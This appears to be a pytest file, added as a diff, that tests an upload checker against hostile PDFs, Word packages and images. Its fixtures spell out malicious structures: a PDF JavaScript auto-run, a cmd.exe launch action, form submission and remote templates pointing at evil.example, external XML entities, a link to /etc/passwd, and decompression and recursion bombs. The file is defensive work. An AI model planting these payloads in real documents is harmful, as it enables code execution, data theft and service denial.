@@ -1,0 +1,153 @@
+"""Files made to do harm: each is refused within a second and without its memory, or is harmless to keep.
+
+What was found once and mended is named after what it did; what may look like it and is not stays accepted.
+"""
+
+import time
+import zlib
+
+import pytest
+
+from mashang.documents import contents
+from mashang.documents.operations import storing
+from mashang.documents.tests import bytes_of
+from mashang.documents.tests import hostile_bytes as hostile
+from mashang.documents.tests.test_check import _memory, refused
+from mashang.kernel.errors import Refusal
+
+SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
+VAST = 600 << 20
+HUNDRED = 100 << 20
+
+
+# what it is: (bytes, code)
+PDFS = {
+    "a script among packed objects": lambda: (
+        hostile.packed_pdf(b"/OpenAction 4 0 R", more={4: SCRIPT}), "file.active"),
+    "a program to launch among packed objects": lambda: (
+        hostile.packed_pdf(b"/OpenAction 4 0 R", more={4: b"<</S/Launch/F(cmd.exe)>>"}), "file.active"),
+    "a form that is sent elsewhere": lambda: (
+        hostile.pdf(catalogue=b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>"), "file.active"),
+    "a form in the form language": lambda: (hostile.pdf(catalogue=b"/AcroForm<</XFA 4 0 R/Fields[]>>"), "file.active"),
+    "a film with a player": lambda: (
+        hostile.pdf(page=hostile.PAGE[:-2] + b"/Annots[<</Subtype/RichMedia/Rect[0 0 5 5]>>]>>"), "file.active"),
+    "a program attached": lambda: (hostile.pdf_with_a_program(), "file.mixed"),
+    "a file pinned to a page": lambda: (
+        hostile.pdf(page=hostile.PAGE[:-2] + b"/Annots[<</Subtype/FileAttachment/Rect[0 0 5 5]>>]>>"), "file.mixed"),
+    "100 MB of packed objects": lambda: (hostile.packed_pdf(ballast=HUNDRED), "file.bomb"),
+    "600 MB packed twice": lambda: (hostile.packed_pdf(ballast=VAST, how="twice"), "file.bomb"),
+    "600 MB far from their name": lambda: (hostile.packed_pdf(ballast=VAST, how="far"), "file.bomb"),
+    "a script behind encryption": lambda: (
+        hostile.locked_pdf(zlib.compress(b"6 0 " + SCRIPT), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"),
+        "STORED"),  # nothing leads to it
+    "pages in a circle": lambda: (
+        hostile.pdf({2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"}), "file.broken"),
+    "20,000 pages one inside the other": lambda: (hostile.pdf({
+        2: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
+        **{n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(4, 20_000)}, 20_000: hostile.PAGE,
+    }), "file.broken"),
+    "a page tree that doubles forty times": lambda: (hostile.pdf({
+        2: b"<</Type/Pages/Kids[4 0 R]/Count %d>>" % 2**40,
+        **{n: b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count %d>>" % (n + 1, n + 1, 2 ** (44 - n)) for n in range(4, 44)},
+        44: hostile.PAGE,
+    }), "file.broken"),
+}  # fmt: skip
+
+
+def outcome(content: bytes, name: str) -> str:
+    """The code of the refusal, or STORED."""
+    try:
+        storing.check(content, name)
+    except Refusal as refusal:
+        return refusal.reasons[0].code
+    return "STORED"
+
+
+@pytest.mark.parametrize("made", PDFS.values(), ids=PDFS)
+def test_a_cunning_pdf(made):
+    content, code = made()
+    before, began = _memory(), time.process_time()
+    assert outcome(content, "证明.pdf") == code
+    assert time.process_time() - began < 1
+    assert _memory() - before < 30
+
+
+def test_a_pdf_of_a_million_packed_objects_held_the_process_for_ever():
+    content, began = hostile.pdf_of_a_million_objects(), time.process_time()
+    assert outcome(content, "证明.pdf") == "STORED"  # nothing leads to them: nobody reads them
+    assert time.process_time() - began < 2
+
+
+def test_an_encrypted_pdf_hid_its_objects_from_the_scan():
+    """Opened without a password, it is looked at behind its encryption; what bursts there ends alone."""
+    script = hostile.locked_pdf(zlib.compress(SCRIPT), b"/Filter/FlateDecode", catalogue=b"/OpenAction" + SCRIPT)
+    assert outcome(script, "流水.pdf") == "file.active"
+    quiet = hostile.locked_pdf(b"q Q", b"")
+    assert contents.place(storing.check(quiet, "流水.pdf").sha256).read_bytes() == quiet  # kept as it was given
+
+
+def test_a_voucher_for_the_books_may_carry_its_entries():
+    assert outcome(hostile.voucher(), "电子凭证.pdf") == "STORED"
+
+
+def test_a_plain_packed_pdf_of_a_newer_printer_is_accepted():
+    assert storing.check(hostile.packed_pdf(), "证明.pdf").pages == 1
+
+
+REL = "word/_rels/settings.xml.rels"
+PACKAGES = {
+    "a link out of the folder": (hostile.word("word/link", b"/etc/passwd", link=True), "file.mixed"),
+    "a name on a drive": (hostile.word("C:evil.xml"), "file.mixed"),
+    "a name of 6,000 signs": (hostile.word("word/" + "d/" * 3_000 + "x.xml"), "file.mixed"),
+    "the same name twice": (hostile.word("word/Document.xml"), "file.mixed"),
+    "a package that says it is a picture": (hostile.word("word/media/1.png", bytes_of.package("a")), "file.mixed"),
+    "a program that says it is a picture": (hostile.word("word/media/1.png", b"MZ\x90\0" + bytes(90)), "file.mixed"),
+    "a billion laughs": (hostile.word("word/a.xml", hostile.LAUGHS), "file.active"),
+    "an entity from outside": (hostile.word("word/a.xml", hostile.OUTSIDE.encode()), "file.active"),
+    "the same in two bytes a sign": (hostile.word("word/a.xml", hostile.OUTSIDE.encode("utf-16")), "file.active"),
+    "a template from elsewhere": (
+        hostile.word(REL, hostile.TEMPLATE % (b"http://evil.example/x.dotm", b"attachedTemplate")), "file.active"),
+    "an object from elsewhere": (
+        hostile.word(REL, hostile.TEMPLATE % (b"mhtml:http://evil.example/x!y", b"oleObject")), "file.active"),
+    "an old macro sheet": (hostile.word("xl/macrosheets/sheet1.xml"), "file.active"),
+    "a control": (hostile.word("word/activeX/activeX1.bin"), "file.active"),
+    "4 GB of memory for 300 bytes": (hostile.vast_dictionary(), "file.broken"),
+    "a link to a page": (hostile.word(REL, hostile.TEMPLATE % (b"http://www.gov.cn/", b"hyperlink")), "STORED"),
+    "a template on the author's disk": (
+        hostile.word(REL, hostile.TEMPLATE % (b"file:///C:/Users/li/Normal.dotm", b"attachedTemplate")), "STORED"),
+    "the table behind a chart": (hostile.word("word/embeddings/t.xlsx", bytes_of.package("xl/workbook.xml")), "STORED"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("content", "code"), PACKAGES.values(), ids=PACKAGES)
+def test_a_cunning_package(content, code):
+    before, began = _memory(), time.process_time()
+    assert outcome(content, "章程.docx") == code
+    assert time.process_time() - began < 1
+    assert _memory() - before < 30
+
+
+PICTURES = {
+    "a million small chunks": lambda: hostile.png_with(hostile.chunk(b"tEXt", b"a\0b") * 1_000_000),
+    "100,000 frames": lambda: hostile.png_with(hostile.chunk(b"fcTL", bytes(26)) * 100_000),
+    "half a gigabyte of colour profile": lambda: hostile.png_with(
+        hostile.chunk(b"iCCP", b"x\0\0" + hostile.packed_zeros(512 << 20))),
+    "half a gigabyte of words": lambda: hostile.png_with(
+        hostile.chunk(b"zTXt", b"x\0\0" + hostile.packed_zeros(512 << 20))),
+    "5,000 scans": lambda: hostile.jpeg_of_many_scans(5_000),
+    "500,000 segments": lambda: hostile.jpeg_of_many_segments(500_000),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("made", PICTURES.values(), ids=PICTURES)
+def test_a_cunning_picture_kept_the_processor_for_seconds_or_for_ever(made):
+    content = made()
+    before, began = _memory(), time.process_time()
+    assert refused(content, "照片.jpg")[0] == "file.broken"
+    assert time.process_time() - began < 1
+    assert _memory() - before < 60
+
+
+@pytest.mark.parametrize("scans", [0, 8])
+def test_a_progressive_photograph_of_a_telephone_is_accepted(scans):
+    assert outcome(hostile.jpeg_of_many_scans(scans), "照片.jpg") == "STORED"
